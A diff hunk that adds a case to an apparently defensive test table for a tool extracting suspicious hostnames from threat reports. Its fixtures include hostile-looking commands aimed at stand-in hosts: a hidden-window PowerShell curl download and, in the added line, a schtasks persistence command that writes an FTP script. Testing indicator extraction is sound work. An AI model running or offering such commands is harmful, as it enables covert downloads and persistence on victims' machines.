@@ -53,6 +53,7 @@ def judged(*lines: str) -> list[tuple[str, str | None]]:
         (['var host = "evil-l.top"; a.open(host);'], [("evil-l.top", None), ("a.open", refusals.CODE)]),
         (["powershell -w hidden curl -k evil-m.top"], [("evil-m.top", None)]),
         (["powershell -c ping benign-a.com"], [("benign-a.com", refusals.CODE)]),
+        (["schtasks /create /tn a /tr \"cmd /c echo open evil-r.top>s&echo b>>s\""], [("evil-r.top", None)]),
         (["if (document.location.host) {"], [("document.location.host", refusals.CODE)]),
         # lists within sentences, as dispatches write them
         (["- evil-n.top, evil-o.top;"], [("evil-n.top", None), ("evil-o.top", None)]),
